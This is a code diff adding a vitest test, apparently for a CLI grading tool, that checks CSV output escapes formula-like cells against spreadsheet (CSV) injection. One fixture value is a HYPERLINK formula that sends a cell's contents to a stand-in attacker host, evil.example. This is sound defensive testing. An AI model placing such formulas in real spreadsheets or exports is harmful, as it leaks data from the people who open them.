@@ -5,6 +5,7 @@ import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { createOpenAiMock, MOCK_BASE_URL, modelGrade } from "./support/openai-mock.js";
 import { SAMPLE_ANSWER, tempDbFile } from "./support/app.js";
 import { jsonLines, runCli } from "./support/cli.js";
+import { csvCell } from "../src/batch/output.js";
 
 const FIXTURE = new URL("./fixtures/batch-answers.jsonl", import.meta.url).pathname;
 const mock = createOpenAiMock();
@@ -49,6 +50,23 @@ describe("starcoach grade (offline)", () => {
     expect(records.map((x) => x.id)).toEqual(["backbone-1", "results-1", "customer-1"]);
     expect(Number(records[0]!.overall_score)).toBeGreaterThan(0);
     expect(records[0]!.status).toBe("done");
+  });
+
+  it("writes cells a spreadsheet would run as formulas with a leading apostrophe (CSV injection)", async () => {
+    const db = tempDbFile();
+    const input = join(dirname(db), "formulas.jsonl");
+    const ids = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1:A9)", "plain"];
+    writeFileSync(input, ids.map((id, i) => JSON.stringify({ id, principle: i === 4 ? "=nope" : "ownership", answer: SAMPLE_ANSWER.replace("Acme", `Acme${i}`) })).join("\n"));
+    const out = join(dirname(db), "out.csv");
+    await runCli(["grade", input, "--offline", "--db", db, "--format", "csv", "--out", out]);
+    const records = parse(readFileSync(out, "utf8"), { columns: true }) as Array<Record<string, string>>;
+    expect(records.map((x) => x.id)).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'+1+1", "'-2+3", "'@SUM(A1:A9)", "plain"]);
+    expect(records[4]!.error_code).toBe("unknown_principle");
+    // Every text cell is checked, not only the id; numbers stay numbers.
+    expect(csvCell("\tcmd")).toBe("'\tcmd");
+    expect(csvCell("\r=1")).toBe("'\r=1");
+    expect(csvCell(-3)).toBe(-3);
+    expect(csvCell("a=b")).toBe("a=b");
   });
 
   it("resumes the same job when the same command runs again", async () => {
